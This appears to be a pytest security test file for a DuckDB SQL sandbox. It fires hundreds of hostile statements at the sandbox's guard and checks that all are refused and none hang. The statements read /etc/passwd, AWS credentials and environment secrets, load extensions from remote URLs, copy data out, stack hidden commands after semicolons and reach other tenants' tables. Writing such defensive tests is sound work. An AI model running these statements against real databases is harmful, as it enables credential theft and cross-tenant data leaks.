"""The data-analysis sandbox against hostile SQL: the security bar of the data-analysis issue, with its counts.

Every statement goes through :meth:`DuckDBSession.query` (the guard, then the locked connection), as a model's SQL
does. The bar: zero statements executed outside the rules, zero reads outside the loaded tables, no statement
running past the timeout plus one second. The counts per category are printed (``-s``) and quoted in the README
(Security, "Data analysis sandbox").
"""

from __future__ import annotations

import itertools
import time
from pathlib import Path

import pytest

from ragstep.adapters.analysis.duckdb import DuckDBAnalysis, DuckDBSession, table_name
from ragstep.models.analysis import AnalysisError

OWN = "kown"  # the knowledge item this request loaded
OTHER_KB = table_name("kother")  # a data file of another knowledge base (never loaded here)
OTHER_TENANT = table_name("tenant2file")
TIMEOUT_S = 0.5

SECRET = "TOP-SECRET-CANARY"


@pytest.fixture
def session(tmp_path: Path) -> DuckDBSession:
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    data = tmp_path / "own.csv"
    data.write_text("city,price\n" + "".join(f"c{i % 7},{i}\n" for i in range(3000)), encoding="utf-8")
    s = DuckDBAnalysis(memory_limit_mb=64, timeout_s=TIMEOUT_S, max_rows=200).session()
    s.load(OWN, str(data), "csv")
    s.lock()
    yield s
    s.close()


def hostile(tmp: Path) -> dict[str, list[str]]:
    """The statements, by category: hand-written ones, and generated ones (every verb x target, every reader x
    path x the place it hides in)."""
    own = table_name(OWN)
    secret = str(tmp / "secret.txt")
    out = str(tmp / "out.csv")
    paths = [secret, "/etc/passwd", "/proc/self/environ", "~/.aws/credentials", "file:///etc/passwd",
             "https://example.com/x.csv", "s3://bucket/key.csv", "/tmp/*"]  # fmt: skip
    readers = ["read_csv", "read_csv_auto", "read_text", "read_blob", "read_json", "read_parquet", "glob",
               "sniff_csv", "parquet_metadata"]  # fmt: skip

    def hide(source: str) -> list[str]:
        # The same read, as the FROM, in a CTE, in a join, in a subquery of WHERE, in a UNION.
        return [
            f"SELECT * FROM {source}",
            f"WITH t AS (SELECT * FROM {source}) SELECT * FROM t",
            f"SELECT * FROM {own} JOIN {source} ON true",
            f"SELECT * FROM {own} WHERE price IN (SELECT 1 FROM {source})",
            f"SELECT city FROM {own} UNION ALL SELECT * FROM {source}",
        ]

    writes = [
        f"INSERT INTO {own} VALUES ('x', 1)",
        f"UPDATE {own} SET price = 0",
        f"DELETE FROM {own}",
        f"TRUNCATE {own}",
        f"DROP TABLE {own}",
        f"ALTER TABLE {own} RENAME TO gone",
        f"ALTER TABLE {own} ADD COLUMN x INT",
        "CREATE TABLE evil AS SELECT 1",
        f"CREATE VIEW evil AS SELECT * FROM {own}",
        "CREATE MACRO evil(x) AS x",
        "CREATE SEQUENCE evil",
        "CREATE SCHEMA evil",
        "CREATE TYPE evil AS ENUM ('a')",
        f"CREATE INDEX evil ON {own}(city)",
        "CREATE SECRET evil (TYPE s3, KEY_ID 'a', SECRET 'b')",
        f"COPY {own} TO '{out}'",
        f"COPY (SELECT * FROM {own}) TO '{out}' (FORMAT csv)",
        f"COPY {own} FROM '{secret}'",
        f"EXPORT DATABASE '{tmp / 'export'}'",
        f"IMPORT DATABASE '{tmp}'",
        "VACUUM",
        "CHECKPOINT",
        "ANALYZE",
        f"INSERT INTO {own} SELECT * FROM read_csv('{secret}')",
        f"WITH x AS (SELECT 1) DELETE FROM {own}",
        f"MERGE INTO {own} USING (SELECT 'x' AS city) s ON s.city = {own}.city WHEN MATCHED THEN DELETE",
    ]
    attach = [
        f"ATTACH '{tmp / 'evil.db'}' AS evil",
        "ATTACH ':memory:' AS evil",
        f"ATTACH '{secret}' (TYPE sqlite)",
        "ATTACH 'md:' AS evil",
        "DETACH memory",
        "DETACH DATABASE IF EXISTS evil",
        "USE system",
    ]
    extensions = [
        "INSTALL httpfs",
        "FORCE INSTALL httpfs",
        "INSTALL shellfs FROM community",
        "LOAD httpfs",
        "LOAD excel",
        f"LOAD '{tmp / 'evil.duckdb_extension'}'",
        "INSTALL 'https://example.com/evil.duckdb_extension'",
    ]
    settings = [
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET lock_configuration",
        "SET threads = 8",
        "SET memory_limit = '100GB'",
        "SET allowed_directories = ['/']",
        "SET temp_directory = '/tmp'",
        "PRAGMA threads = 8",
        "PRAGMA enable_profiling",
        "PRAGMA database_list",
        "PRAGMA show_tables",
        f"PRAGMA table_info('{own}')",
        "CALL pragma_version()",
        "CALL duckdb_settings()",
        "SET VARIABLE x = 1",
        "RESET ALL",
    ]
    reads = [f"SELECT * FROM {r}('{p}')" for r, p in itertools.product(readers, paths)]
    reads += [q for p in (secret, "/etc/passwd", "https://example.com/x.csv") for q in hide(f"read_csv('{p}')")]
    reads += [
        f"SELECT * FROM '{secret}'",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM 'https://example.com/data.csv'",
        "SELECT * FROM 's3://bucket/data.parquet'",
        f"SELECT content FROM read_text('{secret}')",
        "SELECT getenv('HOME')",
        "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
        "SELECT current_setting('home_directory')",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM duckdb_extensions()",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM duckdb_tables",
        "SELECT * FROM information_schema.tables",
        "SELECT * FROM pg_catalog.pg_class",
        "SELECT * FROM sqlite_master",
        "SELECT * FROM system.main.duckdb_settings()",
        f"SELECT * FROM query('SELECT * FROM read_csv(''{secret}'')')",
        f"SELECT * FROM query_table('{own}')",
        f"SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM {own}'))",
        "SELECT version()",
        "SELECT * FROM range(10)",
        "SELECT * FROM generate_series(1, 10)",
        f"SELECT * FROM memory.main.{own}",
        f"SELECT * FROM main.{own}",
        f"SELECT * FROM {own} AT (VERSION => 1)",
        f"SUMMARIZE {own}",
        f"DESCRIBE {own}",
        "SHOW TABLES",
        "SHOW ALL TABLES",
        f"PIVOT {own} ON city USING sum(price)",
        f"EXPLAIN SELECT * FROM {own}",
        f"EXPLAIN ANALYZE SELECT * FROM {own}",
        f"SELECT * FROM {own}, (WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings) x, duckdb_settings",
        "SELECT setseed(0.5)",
        "SELECT nextval('s')",
    ]
    stacked = [
        f"SELECT 1; DROP TABLE {own}",
        f"SELECT 1;DELETE FROM {own};",
        f"SELECT * FROM {own}; COPY {own} TO '{out}'",
        f"SELECT 1 /* comment */; ATTACH '{tmp / 'x.db'}'",
        "SELECT 1 --\n; INSTALL httpfs",
        f"SELECT ';' AS s; DROP TABLE {own}",
        f"SELECT $$;$$; DROP TABLE {own}",
        f"SELECT 'it''s'; DELETE FROM {own}",
        "SELECT 1；DROP TABLE x",  # a full-width semicolon: not SQL at all
        "SELECT 1 UNION SELECT 2; SET enable_external_access = true",
        f"/* SELECT */ DROP TABLE {own}",
        f"-- SELECT\nDELETE FROM {own}",
        "SELECT 1; SELECT 2",
        "WITH a AS (SELECT 1) SELECT * FROM a; PRAGMA threads = 8",
        'SELECT "a;b" FROM (SELECT 1 AS "a;b"); LOAD httpfs',
        f"SELECT 1\n;\nCOPY (SELECT 1) TO '{out}'",
        f"SELECT E'\\x3b'; DROP TABLE {own}",
        "SELECT 1; CALL pragma_version()",
    ]
    other = [
        f"SELECT * FROM {OTHER_KB}",
        f"SELECT * FROM {OTHER_TENANT}",
        f"SELECT * FROM {own} JOIN {OTHER_KB} USING (city)",
        f"SELECT * FROM {own} WHERE city IN (SELECT city FROM {OTHER_TENANT})",
        f"WITH x AS (SELECT * FROM {OTHER_KB}) SELECT * FROM x",
        f"SELECT * FROM other_db.main.{own}",
        f'SELECT * FROM "{OTHER_KB}"',
        "SELECT * FROM k_",
        f"SELECT * FROM {own}_sheet1",
    ]
    limits = [
        f"SELECT count(*) FROM {own} a, {own} b, {own} c, {own} d",
        f"SELECT * FROM {own} a, {own} b, {own} c ORDER BY random()",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
        f"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r, {own}) SELECT max(n) FROM r",
        f"SELECT string_agg(a.city || b.city, ',') FROM {own} a, {own} b",
        f"SELECT list(a.price) FROM {own} a, {own} b, {own} c",
    ]
    return {
        "writes": writes,
        "attach_detach": attach,
        "install_load": extensions,
        "pragma_set": settings,
        "file_url_env_reads": reads,
        "stacked_and_hidden": stacked,
        "other_kb_or_tenant": other,
        "resource_limits": limits,
    }


def test_no_hostile_statement_runs_reads_outside_or_hangs(
    session: DuckDBSession, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cases = hostile(tmp_path)
    counts: dict[str, dict[str, int]] = {}
    executed: list[str] = []
    slow: list[tuple[str, float]] = []
    for category, statements in cases.items():
        tally = counts.setdefault(category, {"total": 0})
        for sql in statements:
            tally["total"] += 1
            started = time.perf_counter()
            try:
                session.query(sql)
                executed.append(sql)
            except AnalysisError as exc:
                tally[exc.reason] = tally.get(exc.reason, 0) + 1
                # Only the resource hogs may get past the parser: they must stop at a limit, and nothing else may.
                hit_limit = exc.reason == "timeout" or "needs more than" in exc.message
                assert hit_limit == (category == "resource_limits"), (sql, exc.reason, exc.message)
                assert exc.reason == "refused" or category == "resource_limits", (sql, exc.message)
                assert SECRET not in exc.message
            elapsed = time.perf_counter() - started
            if elapsed > TIMEOUT_S + 1:
                slow.append((sql, elapsed))
    total = sum(c["total"] for c in counts.values())
    with capsys.disabled():
        print(f"\nhostile statements: {total}")
        for category, tally in counts.items():
            print(f"  {category}: {tally}")
    assert total >= 200
    assert not executed, executed
    assert not slow, slow
    # Nothing was written, and the loaded table is whole.
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "export").exists()
    assert not (tmp_path / "evil.db").exists()
    result = session.query(f"SELECT count(*) AS n, count(DISTINCT city) AS c FROM {table_name(OWN)}")
    assert result.rows == (("3000", "7"),)


def test_the_locked_connection_refuses_on_its_own(session: DuckDBSession, tmp_path: Path) -> None:
    """The second line: statements the guard would refuse fail on the locked connection too (run here without the
    guard, on the session's connection, to show the lock holds by itself)."""
    import duckdb

    con = session._con  # the sandbox's connection, bypassing the guard on purpose
    secret = tmp_path / "secret.txt"
    for sql in (
        f"SELECT * FROM read_csv('{secret}')",
        f"SELECT * FROM read_text('{secret}')",
        "SELECT * FROM glob('/etc/*')",
        f"COPY {table_name(OWN)} TO '{tmp_path / 'out.csv'}'",
        f"ATTACH '{tmp_path / 'evil.db'}'",
        "INSTALL httpfs",
        "LOAD excel",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "SET threads = 4",
        "RESET memory_limit",
        "SELECT * FROM 'https://example.com/x.csv'",
    ):
        with pytest.raises(duckdb.Error):
            con.execute(sql).fetchall()
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "evil.db").exists()
    assert con.execute("SELECT current_setting('threads')").fetchone() == (1,)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT city, avg(price) AS avg_price FROM k_kown GROUP BY city ORDER BY city",
        "WITH t AS (SELECT * FROM k_kown WHERE price > 10) SELECT count(*) FROM t",
        "FROM k_kown SELECT max(price)",
        "SELECT city FROM K_KOWN WHERE city GLOB 'c*' LIMIT 3",
        "SELECT strftime(current_date, '%Y') AS y, (SELECT count(*) FROM k_kown) AS n",
        "SELECT a.city, count(*) FROM k_kown a JOIN (SELECT DISTINCT city FROM k_kown) b USING (city) GROUP BY 1",
        "SELECT city, row_number() OVER (PARTITION BY city ORDER BY price DESC) AS r FROM k_kown QUALIFY r = 1",
        "SELECT 1 -- a comment; DROP TABLE k_kown",
        "SELECT 'DROP TABLE k_kown; --' AS text",
    ],
)
def test_ordinary_analysis_queries_run(session: DuckDBSession, sql: str) -> None:
    result = session.query(sql)
    assert result.columns and result.rows and not result.truncated


def test_rows_are_capped_and_the_cap_noted(session: DuckDBSession) -> None:
    result = session.query("SELECT * FROM k_kown")
    assert len(result.rows) == 200 and result.truncated
    assert result.columns == ("city", "price") and result.rows[0] == ("c0", "0")


def test_loading_after_the_lock_is_refused(session: DuckDBSession, tmp_path: Path) -> None:
    with pytest.raises(AnalysisError, match="locked"):
        session.load("later", str(tmp_path / "secret.txt"), "csv")
